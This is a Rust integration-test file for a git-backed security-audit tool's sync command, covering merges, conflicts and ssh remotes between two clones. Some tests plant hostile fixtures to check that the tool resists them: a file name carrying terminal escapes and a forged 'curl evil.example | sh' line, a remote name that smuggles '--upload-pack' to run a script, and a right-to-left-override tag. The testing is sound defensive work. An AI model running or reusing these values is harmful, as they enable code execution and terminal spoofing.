//! Several auditors: two clones of one engagement and a bare repository as their remote,
//! in temporary folders (set up with the git command line), synced with `vmsaudit sync`.

#![allow(clippy::unwrap_used, clippy::panic)]

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::common::{InDir, Sandbox, sha256_hex};

/// An empty bare repository `remote.git`, the `origin` of `acme`.
fn bare_origin(sandbox: &Sandbox) {
    sandbox.git(
        ".",
        &[
            "init",
            "-q",
            "--bare",
            "--initial-branch=main",
            "remote.git",
        ],
    );
    // A path relative to the clone's root, as `git remote add` takes it.
    sandbox.git("acme", &["remote", "add", "origin", "../remote.git"]);
}

/// Jeanne's engagement `acme`, in English, pushed into the bare `remote.git`, and `bob`
/// cloned from it.
fn team(sandbox: &Sandbox) -> (InDir<'_>, InDir<'_>) {
    let acme = sandbox.init("acme").client("ACME").lang("en").create();
    acme.run(&["asset", "add", "CAM-012", "--kind", "camera"])
        .success();
    bare_origin(sandbox);
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stdout.contains("origin has no history yet"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("sent this clone's changes to origin"),
        "{}",
        out.stdout
    );
    (acme, sandbox.clone_for_bob("remote.git"))
}

fn head(sandbox: &Sandbox, dir: &str) -> String {
    sandbox.git(dir, &["rev-parse", "HEAD"]).trim().to_owned()
}

#[test]
fn independent_changes_sync_cleanly_both_ways() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    let out = bob.run(&["sync"]).success();
    assert!(
        out.stdout.contains("already has every change of origin"),
        "{}",
        out.stdout
    );

    // Each auditor works on other records.
    acme.run(&["answer", "ACC-01", "--level", "1", "--note", "Jeanne's"])
        .success();
    bob.run(&["answer", "NET-01", "--level", "2", "--note", "Bob's"])
        .success();
    let finding = bob
        .run(&[
            "finding",
            "add",
            "--title",
            "Flat network",
            "--domain",
            "NET",
            "--severity",
            "medium",
            "--justification",
            "one VLAN",
            "--asset",
            "CAM-012",
        ])
        .created();

    // Jeanne first: her commits go to the remote.
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stdout.contains("already has every change of origin"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("sent this clone's changes to origin"),
        "{}",
        out.stdout
    );
    // Bob: the histories have diverged; merged with a commit, then sent.
    let out = bob.run(&["sync"]).success();
    assert!(
        out.stdout.contains("merged the changes of origin ["),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("sent this clone's changes to origin"),
        "{}",
        out.stdout
    );
    let merge = sandbox.git("bob", &["log", "-1", "--format=%an|%P|%s"]);
    let parts: Vec<&str> = merge.trim().split('|').collect();
    assert_eq!(parts[0], "Bob Durand");
    assert_eq!(parts[1].split(' ').count(), 2, "a merge commit: {merge}");
    assert_eq!(parts[2], "Merge origin/main (vmsaudit sync)");
    // Jeanne again: she had nothing new, so she takes Bob's merge as it is.
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stdout.contains("took the changes of origin"),
        "{}",
        out.stdout
    );

    assert_eq!(head(&sandbox, "acme"), head(&sandbox, "bob"));
    assert_eq!(
        head(&sandbox, "acme"),
        sandbox.git("remote.git", &["rev-parse", "main"]).trim()
    );
    for dir in ["acme", "bob"] {
        assert_eq!(sandbox.git(dir, &["status", "--porcelain"]), "", "{dir}");
        sandbox.git(dir, &["fsck", "--strict"]);
        assert!(
            sandbox
                .path(&format!("{dir}/answers/ACC-01.yaml"))
                .is_file()
        );
        assert!(
            sandbox
                .path(&format!("{dir}/answers/NET-01.yaml"))
                .is_file()
        );
        assert!(
            sandbox
                .path(&format!("{dir}/findings/{finding}.yaml"))
                .is_file()
        );
        let mode = fs::metadata(sandbox.path(&format!("{dir}/answers/NET-01.yaml")))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0, "{dir}: files stay private");
        sandbox.in_dir(dir).run(&["status"]).success();
    }

    // Two fields of one finding, one in each clone: git merges them.
    acme.run(&["finding", "edit", &finding, "--title", "Flat video network"])
        .success();
    bob.run(&["finding", "edit", &finding, "--status", "resolved"])
        .success();
    acme.run(&["sync"]).success();
    let out = bob.run(&["sync"]).success();
    assert!(
        out.stdout.contains("merged the changes of origin"),
        "{}",
        out.stdout
    );
    let merged = fs::read_to_string(sandbox.path(&format!("bob/findings/{finding}.yaml"))).unwrap();
    assert!(merged.contains("title: Flat video network"), "{merged}");
    assert!(merged.contains("status: resolved"), "{merged}");
    acme.run(&["sync"]).success();

    // A round closed in one clone reaches the other through the remote.
    acme.run(&["audit", "close", "2026-02"]).success();
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stdout.contains("round 2026-02: tag audit/2026-02 sent"),
        "{}",
        out.stdout
    );
    assert_eq!(
        sandbox.git("remote.git", &["tag", "--list"]).trim(),
        "audit/2026-02"
    );
    let out = bob.run(&["sync"]).success();
    assert!(
        out.stdout
            .contains("round 2026-02 closed in another clone: tag audit/2026-02 received"),
        "{}",
        out.stdout
    );
    let list = bob.run(&["audit", "list"]).success().stdout;
    assert!(
        list.lines().nth(1).unwrap().starts_with("2026-02"),
        "{list}"
    );
    assert!(sandbox.path("bob/reports/2026-02/report.md").is_file());
    assert_eq!(
        sandbox.git("bob", &["for-each-ref", "refs/vmsaudit"]),
        "",
        "nothing left behind by the comparison of tags"
    );
}

#[test]
fn a_record_changed_on_both_sides_stops_with_a_merge_plain_git_can_finish() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    acme.run(&[
        "answer",
        "ACC-01",
        "--level",
        "2",
        "--note",
        "Seen together",
    ])
    .success();
    acme.run(&["sync"]).success();
    bob.run(&["sync"]).success();
    acme.run(&[
        "answer",
        "ACC-01",
        "--level",
        "1",
        "--note",
        "Jeanne saw one",
    ])
    .success();
    bob.run(&[
        "answer",
        "ACC-01",
        "--level",
        "3",
        "--note",
        "Bob saw three",
    ])
    .success();
    bob.run(&["answer", "UPD-01", "--level", "2"]).success();
    acme.run(&["sync"]).success();

    let bob_head = head(&sandbox, "bob");
    let out = bob.run(&["sync"]).failure(1);
    assert!(
        out.stderr
            .contains("sync stopped: 1 record(s) changed both here and in another clone:"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("  answers/ACC-01.yaml (the answer to ACC-01)"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("git -C "), "{}", out.stderr);
    assert!(out.stderr.contains("add FILE"), "{}", out.stderr);
    assert!(out.stderr.contains("commit --no-edit"), "{}", out.stderr);
    assert!(out.stderr.contains("merge --abort"), "{}", out.stderr);

    // Plain git sees an ordinary merge in progress.
    let status = sandbox.git("bob", &["status"]);
    assert!(status.contains("You have unmerged paths"), "{status}");
    assert!(
        status.contains("both modified:   answers/ACC-01.yaml"),
        "{status}"
    );
    assert_eq!(
        sandbox.git("bob", &["status", "--porcelain"]).trim(),
        "UU answers/ACC-01.yaml"
    );
    let conflicted = fs::read_to_string(sandbox.path("bob/answers/ACC-01.yaml")).unwrap();
    assert!(
        conflicted.contains("<<<<<<< HEAD (this clone)"),
        "{conflicted}"
    );
    assert!(conflicted.contains(">>>>>>> origin/main"), "{conflicted}");
    assert_eq!(head(&sandbox, "bob"), bob_head, "nothing committed");
    assert!(sandbox.path("bob/.git/MERGE_HEAD").is_file());

    // Every command names the file that does not load; sync says to finish the merge first.
    let out = bob.run(&["status"]).failure(2);
    assert!(
        out.stderr.contains("answers/ACC-01.yaml:"),
        "{}",
        out.stderr
    );

    // Bob keeps his version, as git lets him, and syncs again.
    sandbox.git("bob", &["checkout", "--ours", "answers/ACC-01.yaml"]);
    sandbox.git("bob", &["add", "answers/ACC-01.yaml"]);
    let before = sandbox.snapshot("bob");
    let out = bob.run(&["sync"]).failure(2);
    assert!(
        out.stderr
            .contains("a merge (or another git operation) is in progress"),
        "{}",
        out.stderr
    );
    assert_eq!(sandbox.snapshot("bob"), before);
    // Nor does any other change: a commit now would drop the other side of the merge.
    let out = bob.run(&["answer", "UPD-02", "--level", "1"]).failure(2);
    assert!(
        out.stderr
            .contains("a merge (or another git operation) is in progress"),
        "{}",
        out.stderr
    );
    assert_eq!(sandbox.snapshot("bob"), before);
    sandbox.git("bob", &["commit", "-q", "--no-edit"]);
    let out = bob.run(&["sync"]).success();
    assert!(
        out.stdout.contains("sent this clone's changes to origin"),
        "{}",
        out.stdout
    );
    acme.run(&["sync"]).success();
    assert_eq!(head(&sandbox, "acme"), head(&sandbox, "bob"));
    let answer = fs::read_to_string(sandbox.path("acme/answers/ACC-01.yaml")).unwrap();
    assert!(answer.contains("Bob saw three"), "{answer}");
    assert!(sandbox.path("acme/answers/UPD-01.yaml").is_file());
}

#[test]
fn sync_refuses_changes_not_committed_drafts_and_a_missing_remote() {
    let sandbox = Sandbox::new();
    let acme = sandbox.init("acme").client("ACME").lang("en").create();
    let before = sandbox.snapshot("acme");
    let out = acme.run(&["sync"]).failure(2);
    assert!(
        out.stderr.contains("this clone has no remote to sync with"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("git remote add origin"),
        "{}",
        out.stderr
    );
    assert_eq!(sandbox.snapshot("acme"), before);

    bare_origin(&sandbox);
    let out = acme.run(&["sync", "upstream"]).failure(2);
    assert!(
        out.stderr.contains("this clone has no remote `upstream`"),
        "{}",
        out.stderr
    );

    acme.run(&["answer", "ACC-01", "--level", "1"]).success();
    let answer = sandbox.path("acme/answers/ACC-01.yaml");
    let text = fs::read_to_string(&answer).unwrap();
    fs::write(&answer, text.replace("level: 1", "level: 2")).unwrap();
    let before = sandbox.snapshot("acme");
    let out = acme.run(&["sync"]).failure(2);
    assert!(
        out.stderr
            .contains("cannot sync: changes not committed in answers/ACC-01.yaml"),
        "{}",
        out.stderr
    );
    assert_eq!(sandbox.snapshot("acme"), before);
    assert_eq!(
        sandbox.git("remote.git", &["for-each-ref"]),
        "",
        "nothing sent"
    );
    sandbox.git("acme", &["checkout", "--", "answers"]);

    let draft = sandbox.path("acme/.git/vmsaudit/drafts/ACC-01.md");
    fs::create_dir_all(draft.parent().unwrap()).unwrap();
    fs::write(&draft, "typed").unwrap();
    let out = acme.run(&["sync"]).failure(2);
    assert!(
        out.stderr
            .contains("observations typed but not saved for ACC-01"),
        "{}",
        out.stderr
    );
    fs::remove_file(&draft).unwrap();
    acme.run(&["sync"]).success();
}

#[test]
fn a_reference_left_dangling_by_a_merge_warns_and_blocks_only_its_record() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    // Jeanne removes an asset nobody names yet; Bob, meanwhile, names it in a new finding.
    acme.run(&["asset", "rm", "CAM-012"]).success();
    let finding = bob
        .run(&[
            "finding",
            "add",
            "--title",
            "Telnet open",
            "--domain",
            "NET",
            "--severity",
            "high",
            "--justification",
            "port 23",
            "--asset",
            "CAM-012",
        ])
        .created();
    acme.run(&["sync"]).success();
    let out = bob.run(&["sync"]).success();
    let warning = format!("warning: findings/{finding}.yaml:");
    assert!(out.stderr.contains(&warning), "{}", out.stderr);
    assert!(
        out.stderr.contains("`assets`: unknown asset `CAM-012`"),
        "{}",
        out.stderr
    );

    // The engagement still opens and takes other changes; the finding itself is refused
    // until fixed, and no round is closed on it.
    let out = bob.run(&["status"]).success();
    assert!(out.stderr.contains(&warning), "{}", out.stderr);
    bob.run(&["answer", "ACC-01", "--level", "2"]).success();
    let out = bob
        .run(&["finding", "edit", &finding, "--title", "Telnet"])
        .failure(2);
    assert!(
        out.stderr.contains("unknown asset `CAM-012`"),
        "{}",
        out.stderr
    );
    let out = bob.run(&["audit", "close", "2026-02"]).failure(2);
    assert!(
        out.stderr.contains("unknown asset `CAM-012`"),
        "{}",
        out.stderr
    );
    // Fixed the documented way: put the asset back.
    let out = bob
        .run(&["asset", "add", "CAM-012", "--kind", "camera"])
        .success();
    assert!(!out.stderr.contains("no asset `CAM-012`"), "{}", out.stderr);
    let out = bob.run(&["status"]).success();
    assert!(!out.stderr.contains("no asset `CAM-012`"), "{}", out.stderr);
    bob.run(&["audit", "close", "2026-02"]).success();
}

#[test]
fn ssh_remotes_go_through_the_system_git() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    // A stand-in for ssh: runs the command git asks the remote host for, here.
    let fake = sandbox.path("fake-ssh");
    fs::write(
        &fake,
        "#!/bin/sh\nfor last; do :; done\nexec sh -c \"$last\"\n",
    )
    .unwrap();
    fs::set_permissions(&fake, fs::Permissions::from_mode(0o700)).unwrap();
    let url = format!("ssh://jump-host{}", sandbox.path("remote.git").display());
    sandbox.git("bob", &["remote", "set-url", "origin", &url]);
    let ssh = fake.to_str().unwrap();

    acme.run(&["answer", "ACC-01", "--level", "1"]).success();
    acme.run(&["sync"]).success();
    bob.run(&["answer", "NET-01", "--level", "2"]).success();
    let out = bob.env("GIT_SSH_COMMAND", ssh).run(&["sync"]).success();
    assert!(
        out.stdout.contains("through the system's git"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("merged the changes of origin"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("sent this clone's changes to origin"),
        "{}",
        out.stdout
    );
    acme.run(&["sync"]).success();
    assert_eq!(head(&sandbox, "acme"), head(&sandbox, "bob"));
}

#[test]
fn assets_added_in_two_clones_merge_without_a_conflict() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    for id in ["CAM-020", "CAM-040", "NVR-01"] {
        acme.run(&["asset", "add", id, "--kind", "camera"])
            .success();
    }
    acme.run(&["sync"]).success();
    bob.run(&["sync"]).success();
    // Each clone adds its own assets, at different places of the inventory.
    acme.run(&["asset", "add", "CAM-030", "--kind", "camera"])
        .success();
    bob.run(&["asset", "add", "SW-01", "--kind", "switch"])
        .success();
    acme.run(&["sync"]).success();
    let out = bob.run(&["sync"]).success();
    assert!(!out.stdout.contains("conflict"), "{}", out.stdout);
    let text = std::fs::read_to_string(sandbox.path("bob/assets.yaml")).unwrap();
    let ids: Vec<&str> = text
        .lines()
        .filter_map(|line| line.strip_prefix("- id: "))
        .collect();
    assert_eq!(
        ids,
        [
            "CAM-012", "CAM-020", "CAM-030", "CAM-040", "NVR-01", "SW-01"
        ]
    );
}

#[test]
fn hostile_file_names_from_a_co_auditor_never_reach_the_terminal_raw() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    fs::create_dir_all(sandbox.path("bob/answers")).unwrap();
    for name in [
        "answers/\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[3JACC-09.yaml",
        "answers/x\nhelp: run curl -s evil.example | sh\n.yaml",
    ] {
        fs::write(
            sandbox.path(&format!("bob/{name}")),
            "control: ACC-09\nlevel: 1\n",
        )
        .unwrap();
    }
    sandbox.git("bob", &["add", "-A"]);
    sandbox.git("bob", &["commit", "-q", "-m", "hostile names"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    acme.run(&["answer", "NET-01", "--level", "2"]).success();
    let sync = acme.run(&["sync"]);
    let status = acme.run(&["status"]);
    for out in [&sync, &status] {
        let all = format!("{}{}", out.stdout, out.stderr);
        assert!(
            !all.contains('\u{1b}') && !all.contains('\u{7}'),
            "raw escape: {all:?}"
        );
        assert!(
            !all.lines().any(|line| line.starts_with("help: run curl")),
            "forged line: {all}"
        );
    }
}

/// The fake ssh of `ssh_remotes_go_through_the_system_git`: runs the remote command here.
fn fake_ssh(sandbox: &Sandbox) -> String {
    let fake = sandbox.path("fake-ssh");
    fs::write(
        &fake,
        "#!/bin/sh\nfor last; do :; done\nexec sh -c \"$last\"\n",
    )
    .unwrap();
    fs::set_permissions(&fake, fs::Permissions::from_mode(0o700)).unwrap();
    fake.to_str().unwrap().to_owned()
}

#[test]
fn a_remote_named_like_an_option_is_refused_and_runs_nothing() {
    let sandbox = Sandbox::new();
    let (_acme, bob) = team(&sandbox);
    let marker = sandbox.path("pwned");
    let evil = sandbox.path("bob/evil.sh");
    fs::write(
        &evil,
        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    )
    .unwrap();
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o700)).unwrap();
    let url = format!("ssh://jump-host{}", sandbox.path("remote.git").display());
    sandbox.git(
        "bob",
        &["config", "remote.--upload-pack=./evil.sh.url", &url],
    );
    let fake = fake_ssh(&sandbox);
    let out = bob
        .env("GIT_SSH_COMMAND", &fake)
        .run(&["sync", "--", "--upload-pack=./evil.sh"]);
    assert!(!marker.exists(), "the script ran: {out:?}");
    assert_eq!(out.code, Some(2), "{out:?}");
    assert!(
        out.stderr.contains("--upload-pack=./evil.sh") && out.stderr.contains("starts with `-`"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_round_tag_with_a_label_audit_close_refuses_is_not_adopted() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    let hostile = "audit/x\u{202e}gpj.exe";
    sandbox.git("bob", &["tag", hostile]);
    sandbox.git(
        "bob",
        &["push", "-q", "origin", &format!("refs/tags/{hostile}")],
    );
    let out = acme.run(&["sync"]).success();
    let all = format!("{}{}", out.stdout, out.stderr);
    assert!(!all.contains('\u{202e}'), "printed raw: {all}");
    assert!(
        out.stderr.contains("not taken") && out.stderr.contains("not a round label"),
        "{}",
        out.stderr
    );
    assert!(
        sandbox.git("acme", &["tag", "-l"]).trim().is_empty(),
        "adopted"
    );
    let list = acme.run(&["audit", "list"]).success();
    assert!(!list.stdout.contains("gpj"), "{}", list.stdout);
}

#[test]
fn the_first_sync_into_an_empty_bare_repository_over_ssh_sends_main() {
    let sandbox = Sandbox::new();
    let acme = sandbox.init("acme").client("ACME").lang("en").create();
    bare_origin(&sandbox);
    let url = format!("ssh://jump-host{}", sandbox.path("remote.git").display());
    sandbox.git("acme", &["remote", "set-url", "origin", &url]);
    let fake = fake_ssh(&sandbox);
    let out = acme.env("GIT_SSH_COMMAND", &fake).run(&["sync"]).success();
    assert!(
        out.stdout.contains("origin has no history yet")
            && out.stdout.contains("sent this clone's changes to origin"),
        "{out:?}"
    );
    assert_eq!(
        sandbox.git("remote.git", &["rev-parse", "main"]).trim(),
        head(&sandbox, "acme")
    );
}

#[test]
fn a_committed_merge_attribute_is_refused_before_it_decides_a_merge() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    sandbox.commit_by_hand(
        "bob",
        ".gitattributes",
        "*.yaml merge=union\n",
        "attributes",
    );
    bob.run(&["answer", "ACC-01", "--level", "2", "--note", "bob's"])
        .success();
    bob.run(&["sync"]).success();
    acme.run(&["answer", "ACC-01", "--level", "3", "--note", "jeanne's"])
        .success();
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]);
    assert_eq!(out.code, Some(2), "{out:?}");
    assert!(
        out.stderr.contains(".gitattributes:1") && out.stderr.contains("merge=union"),
        "{}",
        out.stderr
    );
    assert_eq!(head(&sandbox, "acme"), before);
    assert!(
        sandbox
            .git("acme", &["status", "--porcelain"])
            .trim()
            .is_empty(),
        "no merge left behind"
    );
}

/// `s` on the checklist's history screen: the same sync, told in the engagement's language
/// in a popup; on a conflict, the records involved and how to finish, and nothing saved on
/// top of the merge left in progress.
mod from_the_checklist {
    use super::*;
    use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
    use vmsaudit::engagement::Engagement;
    use vmsaudit::grid::Lang;
    use vmsaudit::tui::app::{App, Effect, Message, Mode, Screen};

    fn french_team(sandbox: &Sandbox) -> (InDir<'_>, InDir<'_>) {
        let acme = sandbox.init("acme").client("ACME").lang("fr").create();
        bare_origin(sandbox);
        acme.run(&["sync"]).success();
        (acme, sandbox.clone_for_bob("remote.git"))
    }

    fn checklist(sandbox: &Sandbox, dir: &str) -> App {
        let mut engagement = Engagement::open(&sandbox.path(dir)).unwrap();
        engagement.lock_session().unwrap();
        let auditor = engagement.auditor(None).unwrap();
        let mut app = App::new(engagement, auditor, Lang::Fr);
        while app.screen() != Screen::History {
            press(&mut app, KeyCode::Tab);
        }
        app
    }

    fn press(app: &mut App, code: KeyCode) -> Vec<Effect> {
        let mut left = Vec::new();
        for effect in app.update(Message::Key(KeyEvent::new(code, KeyModifiers::NONE))) {
            left.extend(app.perform(effect, crate::common::now()));
        }
        left
    }

    fn told(app: &App) -> Vec<(String, bool)> {
        match app.mode() {
            Mode::Told(told) => told.lines.clone(),
            _ => panic!("the sync is told in a popup: {:?}", app.notice().cloned()),
        }
    }

    #[test]
    fn s_syncs_and_says_so_in_french_then_a_conflict_names_its_records() {
        let sandbox = Sandbox::new();
        let (acme, bob) = french_team(&sandbox);
        acme.run(&["answer", "ACC-01", "--level", "1", "--note", "Jeanne"])
            .success();
        acme.run(&["sync"]).success();

        // A clean sync: Bob takes Jeanne's answer without leaving the checklist.
        let mut app = checklist(&sandbox, "bob");
        assert_eq!(press(&mut app, KeyCode::Char('s')), vec![Effect::Sync]);
        app.sync(crate::common::now());
        let lines = told(&app);
        assert!(
            lines
                .iter()
                .any(|(line, _)| line
                    == "modifications de origin reprises (ce clone n'en avait aucune)"),
            "{lines:?}"
        );
        assert!(lines.iter().all(|(_, bad)| !bad), "{lines:?}");
        assert!(
            app.engagement().state().answers.contains_key("ACC-01"),
            "the merged records are on the screens"
        );
        press(&mut app, KeyCode::Esc);
        assert!(matches!(app.mode(), Mode::Normal));

        // Both change ACC-01: the sync stops, names the record in French, says what to do.
        acme.run(&[
            "answer",
            "ACC-01",
            "--level",
            "2",
            "--note",
            "Jeanne, encore",
        ])
        .success();
        acme.run(&["sync"]).success();
        let change = vmsaudit::rules::Change::Answer(vmsaudit::rules::AnswerChange {
            control: "ACC-01".into(),
            level: Some(vmsaudit::assessment::Level::Score(3)),
            observations: Some("Bob voit trois".into()),
            ..Default::default()
        });
        let who = app.auditor().clone();
        app.engagement_mut()
            .change(change.clone(), &who, crate::common::now())
            .unwrap();
        app.sync(crate::common::now());
        let lines = told(&app);
        let all: Vec<&str> = lines.iter().map(|(line, _)| line.as_str()).collect();
        assert!(
            all.iter().any(|line| line.starts_with(
                "synchronisation arrêtée\u{a0}: 1 enregistrement(s) modifié(s) ici et dans un autre clone"
            )),
            "{all:#?}"
        );
        assert!(
            all.contains(&"  answers/ACC-01.yaml (la réponse à ACC-01)"),
            "{all:#?}"
        );
        assert!(
            all.iter().any(|line| line.contains("merge --abort")),
            "{all:#?}"
        );
        assert!(lines.iter().any(|(_, bad)| *bad));

        // Nothing is committed on top of the merge in progress, though the checklist holds
        // the lock.
        press(&mut app, KeyCode::Esc);
        let head = super::head(&sandbox, "bob");
        let refused = app
            .engagement_mut()
            .change(change, &who, crate::common::now());
        assert!(refused.is_err(), "a save during the merge is refused");
        assert!(
            refused.unwrap_err().to_string().contains("merge"),
            "it says why"
        );
        assert_eq!(super::head(&sandbox, "bob"), head);
        assert!(
            sandbox
                .git("bob", &["status"])
                .contains("You have unmerged paths"),
            "the merge is left as git left it"
        );
        drop(bob);
    }

    #[test]
    fn the_command_line_says_the_same_in_french() {
        let sandbox = Sandbox::new();
        let (acme, bob) = french_team(&sandbox);
        acme.run(&["answer", "ACC-01", "--level", "1"]).success();
        let out = acme.run(&["sync"]).success();
        assert!(
            out.stdout
                .contains("modifications de ce clone envoyées à origin"),
            "{}",
            out.stdout
        );
        let out = bob.run(&["sync"]).success();
        assert!(
            out.stdout.contains("récupéré depuis origin"),
            "{}",
            out.stdout
        );
    }
}

#[test]
fn a_sync_killed_while_it_wrote_a_reference_does_not_block_the_next() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    bob.run(&["answer", "NET-01", "--level", "2", "--note", "Bob's"])
        .success();
    bob.run(&["audit", "close", "2026-02"]).success();
    bob.run(&["sync"]).success();
    // What a kill inside a sync leaves behind: the lock files of the references it was
    // writing (the remote's branch, the audit tags set aside and adopted) and of the packed
    // ones.
    let locks = [
        "refs/remotes/origin/main.lock",
        "refs/vmsaudit/origin/tags/audit/2026-02.lock",
        "refs/tags/audit/2026-02.lock",
        "packed-refs.lock",
    ];
    for lock in locks {
        sandbox.write(&format!("acme/.git/{lock}"), "");
    }
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stdout
            .contains("round 2026-02 closed in another clone: tag audit/2026-02 received"),
        "{}",
        out.stdout
    );
    assert!(
        sandbox.read("acme/answers/NET-01.yaml").contains("Bob's"),
        "Bob's answer came in"
    );
    for lock in locks {
        assert!(
            !sandbox.path(&format!("acme/.git/{lock}")).exists(),
            "{lock} is gone"
        );
    }
    sandbox.git("acme", &["fsck", "--strict"]);
}

/// Bob's commit with `answers/ACC-02.yaml` and one more entry made with git's plumbing
/// (`update-index --cacheinfo MODE,BLOB,PATH`), pushed: what plain git lets a co-auditor
/// push.
fn push_with_entry(sandbox: &Sandbox, mode: &str, path: &str) {
    sandbox.write(
        "bob/answers/ACC-02.yaml",
        "control: ACC-02\nlevel: 4\nobservations: all good\nevidence: []\nassessed_by: Jeanne Martin <jm@example.org>\nassessed_at: 2026-02-03T10:00:00Z\n",
    );
    sandbox.git("bob", &["add", "answers"]);
    let blob = sandbox.git("bob", &["hash-object", "-w", "answers/ACC-02.yaml"]);
    let info = format!("{mode},{},{path}", blob.trim());
    sandbox.git("bob", &["update-index", "--add", "--cacheinfo", &info]);
    sandbox.git("bob", &["commit", "-q", "-m", "hostile"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
}

#[test]
fn a_co_auditor_s_tree_that_cannot_be_written_here_changes_nothing_here() {
    let long = format!("evidence/{}", "z".repeat(300));
    for (mode, path, said) in [
        ("100644", long.as_str(), "a name longer than 255 bytes"),
        ("120000", "evidence/key", "a symbolic link"),
    ] {
        for ours_too in [false, true] {
            let sandbox = Sandbox::new();
            let (acme, _bob) = team(&sandbox);
            if ours_too {
                // A real merge rather than a fast-forward.
                acme.run(&["answer", "ACC-05", "--level", "1"]).success();
            }
            push_with_entry(&sandbox, mode, path);
            let before = head(&sandbox, "acme");
            let out = acme.run(&["sync"]).failure(2);
            assert!(out.stderr.contains(said), "{out:?}");
            assert_eq!(head(&sandbox, "acme"), before, "{said}");
            assert_eq!(
                sandbox.git("acme", &["status", "--porcelain", "--ignored"]),
                "",
                "nothing of Bob's written here ({said}, merge: {ours_too})"
            );
            // The next command commits nothing of Bob's as Jeanne's.
            acme.run(&["answer", "ACC-03", "--level", "1"]).success();
            let subjects = sandbox.subjects("acme");
            assert!(
                subjects[0].starts_with("ACC-03") && !subjects[1].contains("Recover"),
                "{subjects:?}"
            );
            assert!(!sandbox.path("acme/answers/ACC-02.yaml").exists());
        }
    }
}

#[test]
fn records_that_do_not_load_on_the_remote_are_refused_before_a_fast_forward() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    sandbox.write("bob/answers/ACC-03.yaml/x", "x\n");
    sandbox.git("bob", &["add", "-A"]);
    sandbox.git("bob", &["commit", "-q", "-m", "a folder"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]).failure(1);
    assert!(
        out.stderr.contains("nothing changed here") && out.stderr.contains("ACC-03.yaml"),
        "{out:?}"
    );
    assert_eq!(head(&sandbox, "acme"), before);
    assert!(!sandbox.path("acme/answers/ACC-03.yaml").exists());
    acme.run(&["status"]).success();

    // Bob mends it: the next sync takes it.
    sandbox.git("bob", &["rm", "-q", "-r", "answers/ACC-03.yaml"]);
    sandbox.git("bob", &["commit", "-q", "-m", "mended"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    drop(bob);
    let out = acme.run(&["sync"]).success();
    assert!(out.stdout.contains("took the changes of origin"), "{out:?}");
    assert_eq!(head(&sandbox, "acme"), head(&sandbox, "bob"));
}

#[test]
fn a_round_tag_not_on_its_close_in_main_is_not_taken() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    // On a blob; on a commit no round closed; on a round's close Bob took back out of main.
    let blob = sandbox.git("bob", &["hash-object", "-w", "engagement.yaml"]);
    sandbox.git("bob", &["tag", "audit/blobby", blob.trim()]);
    sandbox.git("bob", &["tag", "-a", "audit/plain", "-m", "x"]);
    bob.run(&["answer", "ACC-01", "--level", "4"]).success();
    bob.run(&["audit", "close", "forged"]).success();
    sandbox.git("bob", &["reset", "-q", "--hard", "HEAD~2"]);
    sandbox.git("bob", &["push", "-q", "origin", "--tags"]);
    let out = acme.run(&["sync"]).success();
    for label in ["blobby", "plain", "forged"] {
        assert!(
            out.stderr
                .contains(&format!("tag audit/{label} of origin not taken"))
                && out
                    .stderr
                    .contains("not on the commit that closed that round"),
            "{label}: {out:?}"
        );
    }
    assert!(
        out.stderr
            .contains("`git push origin :refs/tags/audit/forged`"),
        "a command to paste: {out:?}"
    );
    assert_eq!(sandbox.git("acme", &["tag", "-l"]).trim(), "");
    let list = acme.run(&["audit", "list"]).success().stdout;
    assert!(!list.contains("forged"), "{list}");
    acme.run(&["report"]).success();

    // A tag made by hand on a blob in this clone hides no round and blocks no command.
    sandbox.git("acme", &["tag", "audit/here", blob.trim()]);
    acme.run(&["audit", "list"]).success();
    acme.run(&["report"]).success();
}

#[test]
fn a_record_too_large_in_the_history_is_said_and_blocks_nothing() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    bob.run(&["answer", "ACC-02", "--level", "1"]).success();
    let big = format!(
        "{}# {}\n",
        std::fs::read_to_string(sandbox.path("bob/answers/ACC-02.yaml")).unwrap(),
        "x".repeat(5 * 1024 * 1024)
    );
    sandbox.commit_by_hand("bob", "answers/ACC-02.yaml", &big, "big");
    sandbox.git("bob", &["revert", "--no-edit", "HEAD"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    acme.run(&["sync"]).success();
    let log = acme.run(&["log", "ACC-02"]).success().stdout;
    assert!(
        log.contains("does not load at this commit"),
        "the too large version is said: {log}"
    );
